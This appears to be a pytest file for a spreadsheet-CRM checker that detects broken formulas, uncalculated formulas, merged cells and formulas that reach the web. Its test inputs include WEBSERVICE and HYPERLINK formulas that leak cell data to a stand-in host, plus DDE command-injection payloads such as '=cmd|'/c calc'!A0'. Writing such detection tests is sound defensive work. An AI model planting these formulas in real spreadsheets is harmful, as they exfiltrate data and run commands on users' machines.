"""Formulas: failed ones, uncalculated ones, and those that reach out to the web."""

import pytest

from sheetcrm.model.cells import UNKNOWN, CellError
from sheetcrm.rules.checks.formulas import check_formulas
from tests.building import TODAY, marked, settings, snapshot


def codes(formula, value=1):
    before = snapshot(clients=[{"number": "C-0001", "own:X": value}])
    before = marked(before, "clients", formulas={("C-0001", "own:X"): formula})
    return [problem.code for problem in check_formulas(before, settings(), TODAY)]


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("https://x.example/?d="&B2)',
        "=_xlfn.WEBSERVICE(A1)",
        '=IMPORTXML("http://x.example","//a")',
        '=importrange("key","A1")',
        "=_xlfn.IMAGE(A1)",
        '=HYPERLINK("https://x.example/?d="&B2,"click")',
        '=HYPERLINK(CONCATENATE("https://x.example/",B2),"click")',
        '=HYPERLINK("https://x.example/"&B2&"", "a""b")',
        '=HYPERLINK(WEBSERVICE("https://x.example"),"a")',
        '=IF(TRUE,HYPERLINK("https://x.example","a"),WEBSERVICE(A1))',
        "=cmd|'/c calc'!A0",
        "=MSEXCEL|'\\..\\..\\x'!''",
        '=RTD("a",,"b")',
    ],
)
def test_a_formula_that_reaches_out_is_told(formula):
    assert codes(formula) == ["web-formula"]


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://example.org")',
        '=HYPERLINK("https://example.org/?a=1&b=2","Anna & Jan")',
        'HYPERLINK("https://example.org", A2)',
        '= hyperlink( "https://example.org" ; "say ""hello""" )',
        "=HYPERLINK(A2,B2)",
        "=SUM(A1:A9)",
        '=VLOOKUP(A2,Deals!A:B,2,FALSE)&" | "&B2',
        '="cmd"',
    ],
)
def test_a_plain_link_and_everyday_formulas_are_fine(formula):
    assert codes(formula) == []


def test_a_formula_that_nobody_has_calculated_is_a_hint():
    assert codes("=B2*2", UNKNOWN) == ["formula-unknown"]


def test_a_failed_formula_is_told_once_and_in_the_key_column_by_its_own_check():
    before = snapshot(clients=[{"number": CellError("#REF!"), "own:X": CellError("#REF!")}])
    anchor = before.table("clients").anchors[0]
    before = marked(before, "clients", errors=frozenset({(anchor, "own:X"), (anchor, "number")}))
    assert [(p.code, p.field) for p in check_formulas(before, settings(), TODAY)] == [("broken-formula", "own:X")]


def test_every_hidden_cell_of_a_merge_is_told():
    before = snapshot(clients=[{"number": "C-0001"}, {"number": "C-0002"}])
    before = marked(before, "clients", merged=frozenset({("C-0002", "name"), ("C-0002", "city")}))
    assert [(p.code, p.anchor, p.field) for p in check_formulas(before, settings(), TODAY)] == [
        ("merged-cells", "C-0002", "city"), ("merged-cells", "C-0002", "name"),
    ]  # fmt: skip
